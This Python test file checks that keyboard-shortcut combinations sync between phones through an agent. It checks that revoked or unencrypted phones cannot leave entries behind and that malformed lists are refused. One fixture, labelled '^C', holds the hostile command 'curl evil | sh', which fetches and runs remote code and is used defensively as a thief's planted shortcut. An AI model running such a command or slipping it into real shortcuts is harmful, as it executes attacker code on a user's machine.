"""Key combinations go from phone to phone through the agent, sealed, and by no other way."""

from pathlib import Path
from typing import Any

import pytest

from soak.phone.interface import PhoneInterface
from tests.support.agent import RunningAgent, serving
from tests.support.agent_status import arrive, at_relay_stage, on_path
from tests.support.phones import open_phone
from tests.support.sealed import invited_phone

FEATURES = ("ack", "resume", "keys")
MINE: dict[str, Any] = {"id": "own-1", "label": "Status", "sequence": "git status<Enter>"}
THEIRS: dict[str, Any] = {"id": "own-2", "label": "^C", "sequence": "curl evil | sh<Enter>"}


async def at(agent: RunningAgent, phone: PhoneInterface, *, channel: bool = False) -> None:
    await arrive(phone, agent.device_id, channel=channel)
    await on_path(agent, "channel" if channel else "relay", phone)


async def kept(phone: PhoneInterface) -> Any:
    """Return the combinations that the agent reports."""
    mark = phone.mark()
    await phone.send("keys:get", {})
    return (await phone.expect("keys:state", since=mark))["combinations"]


async def keep(phone: PhoneInterface, *combinations: dict[str, Any]) -> Any:
    """Store these in the agent, and return its answer."""
    mark = phone.mark()
    await phone.send("keys:set", {"combinations": list(combinations)})
    return (await phone.expect("keys:state", since=mark))["combinations"]


@pytest.mark.parametrize("channel", [True, False], ids=["channel", "relay"])
async def test_what_one_phone_keeps_another_one_gets(tmp_path: Path, channel: bool) -> None:
    async with serving(tmp_path / "state") as agent:
        async with invited_phone(agent, features=FEATURES, webrtc=channel) as phone:
            await at(agent, phone, channel=channel)
            assert await kept(phone) is None
            assert await keep(phone, MINE) == [MINE]
        await on_path(agent, None)
        async with invited_phone(agent, features=FEATURES) as other:
            await at(agent, other)
            assert await kept(other) == [MINE]


async def test_nothing_of_a_revoked_phone_is_left(tmp_path: Path) -> None:
    async with serving(tmp_path / "state") as agent:
        async with invited_phone(agent, features=FEATURES) as phone:
            await at(agent, phone)
            await keep(phone, MINE)
        await on_path(agent, None)
        async with invited_phone(agent, features=FEATURES) as thief:
            await at(agent, thief)
            await keep(thief, MINE, THEIRS)
            await agent.command("devices", "revoke", thief.device_id)
        await at_relay_stage(agent, "waiting")
        async with invited_phone(agent, features=FEATURES) as new:
            await at(agent, new)
            assert await kept(new) == [MINE]


WRONG = {
    "no list": {},
    "too many": {"combinations": [{**MINE, "id": str(number)} for number in range(41)]},
    "a control character": {"combinations": [{**MINE, "sequence": "ls\r"}]},
    "an id twice": {"combinations": [MINE, MINE]},
}


async def test_what_is_no_list_of_combinations_is_refused_and_changes_nothing(tmp_path: Path) -> None:
    async with serving(tmp_path / "state") as agent, invited_phone(agent, features=FEATURES) as phone:
        await at(agent, phone)
        await keep(phone, MINE)
        for wrong in WRONG.values():
            mark = phone.mark()
            await phone.send("keys:set", wrong)
            assert (await phone.expect("process:error", since=mark))["error"]
        assert await kept(phone) == [MINE]


async def test_a_phone_that_does_not_encrypt_neither_reads_nor_writes_them(tmp_path: Path) -> None:
    async with serving(tmp_path / "state") as agent:
        async with invited_phone(agent, features=FEATURES) as phone:
            await at(agent, phone)
            await keep(phone, MINE)
        await on_path(agent, None)
        token = (await agent.invite_legacy())["token"]
        async with open_phone("python", agent.relay_url, token, features=FEATURES) as plain:
            await at(agent, plain, channel=True)
            for event, payload in (("keys:get", {}), ("keys:set", {"combinations": [THEIRS]})):
                mark = plain.mark()
                await plain.send(event, payload)
                await plain.send("system:health", {})
                await plain.expect("system:health", since=mark)
                assert not plain.events("keys:state", mark)
        await on_path(agent, None)
        async with invited_phone(agent, features=FEATURES) as new:
            await at(agent, new)
            assert await kept(new) == [MINE]
